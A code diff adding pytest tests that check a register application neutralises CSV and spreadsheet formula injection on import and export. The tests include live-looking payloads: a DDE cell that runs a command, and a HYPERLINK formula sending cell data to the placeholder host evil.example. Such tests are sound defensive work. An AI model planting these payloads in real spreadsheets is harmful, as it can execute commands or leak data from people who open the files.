@@ -356,3 +356,110 @@ def test_every_hostile_evidence_of_a_case_is_refused_and_a_photo_is_kept_after(
     good = faces.case_with_evidence(face, "现场.jpg", b"\xff\xd8\xff\xe0 a photo")
     assert not good.refused, good.message
     assert faces.written()["CaseEvidence"] == 1
+
+
+# --- formula injection: cells imported as text, exported as text ------------------------------
+
+#: Cells a spreadsheet would run (OWASP "CSV injection"): DDE, a formula, a hyperlink, a sum.
+INJECTED = {
+    "name": "=cmd|' /C calc'!A0",
+    "address": '+HYPERLINK("http://evil.example/"&A1,"点击")',
+    "industry": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def _formula_cells(workbook_bytes_: bytes) -> list[str]:
+    import io
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    with zipfile.ZipFile(io.BytesIO(workbook_bytes_)) as archive:
+        formulas = [
+            name
+            for name in archive.namelist()
+            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
+        ]
+    book = load_workbook(io.BytesIO(workbook_bytes_))
+    cells = [
+        f"{sheet.title}!{cell.coordinate}"
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
+    return formulas + cells
+
+
+@pytest.mark.parametrize("face", ["service", "api", "cli"])
+def test_formula_cells_imported_are_exported_as_text(
+    faces: Faces, face: str, tmp_path: Path
+) -> None:
+    row = (
+        f'SLW-F-0001,"{INJECTED["name"].replace(chr(34), chr(34) * 2)}",410183100,hbj,'
+        f'"{INJECTED["address"].replace(chr(34), chr(34) * 2)}",113.3,34.5,2017-09-30,取缔,'
+        f'"{INJECTED["industry"]}",,否'
+    )
+    done = faces.import_table("service", "台账.csv", csv_of([row]))
+    assert not done.refused, done.message
+    with faces.site.sessions() as session:
+        kept = session.scalars(select(ScatteredEnterprise)).one()
+        assert (kept.name, kept.address, kept.industry) == tuple(INJECTED.values())
+
+    exports: dict[str, bytes] = {}
+    for suffix in (".csv", ".xlsx"):
+        if face == "service":
+            with faces.site.sessions() as session:
+                exports[suffix] = service.export_register(session, OFFICE, faces.kind, suffix)
+        elif face == "api":
+            answer = faces.api.get(
+                f"/api/v1/sources/{KIND}/export",
+                headers=faces.bearer,
+                params={"format": suffix[1:]},
+            )
+            assert answer.status_code == 200, answer.text
+            exports[suffix] = answer.content
+        else:
+            path = tmp_path / f"export{suffix}"
+            assert faces.cli("sources", "export", KIND, str(path), "--as", "office").exit_code == 0
+            exports[suffix] = path.read_bytes()
+
+    import csv
+    import io
+
+    text = exports[".csv"].decode("utf-8-sig")
+    (header, record) = list(csv.reader(io.StringIO(text)))
+    cells = dict(zip(header, record, strict=True))
+    shown = [v for v in cells.values() if v.lstrip("'") in INJECTED.values()]
+    assert len(shown) == 3 and all(v.startswith("'") for v in shown), cells
+    assert not [v for v in record if v[:1] in ("=", "+", "@", "\t", "\r")], record
+    assert _formula_cells(exports[".xlsx"]) == []
+    from openpyxl import load_workbook
+
+    values = {
+        c.value for r in load_workbook(io.BytesIO(exports[".xlsx"])).active.iter_rows() for c in r
+    }
+    assert set(INJECTED.values()) <= values  # kept as the text it is, not altered
+
+
+def test_every_workbook_export_stores_formula_like_text_as_text() -> None:
+    """The one sanitiser every workbook passes (lantian.tabular.workbook_bytes)."""
+    import io
+
+    from openpyxl import Workbook, load_workbook
+
+    from lantian.tabular import csv_safe, workbook_bytes
+
+    book = Workbook()
+    sheet = book.active
+    assert sheet is not None
+    sheet.append(["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", -5, "正常"])
+    book.create_sheet("二").append(['=HYPERLINK("http://evil.example")'])
+    data = workbook_bytes(book)
+    assert _formula_cells(data) == []
+    again = load_workbook(io.BytesIO(data))
+    assert again.worksheets[0]["A1"].value == "=cmd|' /C calc'!A0"
+    assert again.worksheets[1]["A1"].value == '=HYPERLINK("http://evil.example")'
+    assert [csv_safe(v) for v in ("=1", "+1+1", "-2+3", "@A", "\t=1", "\r=1", -5, "-5", "正常")] == [
+        "'=1", "'+1+1", "'-2+3", "'@A", "'\t=1", "'\r=1", "-5", "-5", "正常"
+    ]  # fmt: skip
